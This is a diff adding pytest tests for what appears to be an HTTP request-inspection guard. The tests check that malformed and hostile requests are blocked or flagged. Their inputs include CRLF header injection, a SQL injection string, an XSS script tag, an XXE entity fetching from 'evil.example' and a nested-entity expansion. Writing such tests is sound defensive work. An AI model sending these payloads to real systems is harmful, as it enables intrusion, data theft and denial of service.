@@ -1,0 +1,55 @@
+"""Hostile and broken requests get a clear verdict, never an exception."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from apisentry.guard import Guard, HttpRequest
+from apisentry.guard.config import GuardConfig
+
+JSON = [("Content-Type", "application/json")]
+
+
+@pytest.mark.parametrize(("req", "detector", "fragment"), [
+    (HttpRequest("POST", "/x", "", JSON, b'{"a": "b",,}'), "body", "malformed JSON"),
+    (HttpRequest("POST", "/x", "", JSON, b"[" * 200 + b"]" * 200), "body", "deeper than 64"),
+    (HttpRequest("POST", "/x", "", [("Content-Type", "application/xml")], b"<a><b></a>"), "body", "malformed XML"),
+    (HttpRequest("POST", "/x", "", [("Content-Type", "multipart/form-data")], b"--x\r\nno boundary"), "body", "multipart"),
+    (HttpRequest("POST", "/x", "", JSON, b"{" + b" " * (2 << 20) + b"}"), "limits", "body larger"),
+    (HttpRequest("GET", "/x", "", [("X-Big", "a" * 20000)]), "limits", "headers larger"),
+    (HttpRequest("GET", "/x", "", [("X-Evil", "a\r\nSet-Cookie: x=1")]), "crlf", "line break"),
+])
+def test_broken_requests_get_named_detections(guard: Guard, req: HttpRequest, detector: str, fragment: str) -> None:
+    v = guard.inspect(req)
+    assert v.fault is None
+    assert any(d.detector == detector and fragment in d.message for d in v.detections), v.detections
+
+
+def test_deep_json_and_oversize_block(guard: Guard) -> None:
+    assert guard.inspect(HttpRequest("POST", "/x", "", JSON, b"[" * 200 + b"]" * 200)).action == "block"
+    assert guard.inspect(HttpRequest("POST", "/x", "", JSON, b'{"a":"' + b"x" * (2 << 20) + b'"}')).action == "block"
+
+
+def test_invalid_utf8_is_inspected_not_fatal(guard: Guard) -> None:
+    v = guard.inspect(HttpRequest("POST", "/x", "q=%ff%fe%27%20OR%201=1--", [("Content-Type", "text/plain")],
+                                  b"\xff\xfe<script>alert(1)</script>\xc3"))
+    assert v.fault is None and v.action == "block"
+    assert {"xss", "sqli"} <= {d.detector for d in v.detections}
+
+
+def test_many_parameters_are_capped() -> None:
+    g = Guard(GuardConfig(max_values=100))
+    v = g.inspect(HttpRequest("POST", "/x", "", JSON, json.dumps({f"k{i}": "v" for i in range(500)}).encode()))
+    assert v.fault is None and any(d.detector == "limits" for d in v.detections)
+
+
+def test_xxe_in_xml_body(guard: Guard) -> None:
+    body = b'<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/x.dtd"> %xxe;]><foo/>'
+    v = guard.inspect(HttpRequest("POST", "/x", "", [("Content-Type", "application/xml")], body))
+    assert v.action == "block" and any(d.detector == "xxe" for d in v.detections)
+    billion = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
+    v = guard.inspect(HttpRequest("POST", "/x", "", [("Content-Type", "text/xml")], billion))
+    assert v.fault is None  # defusedxml refuses to expand; the DOCTYPE is still reported
+    assert any(d.detector == "xxe" for d in v.detections)
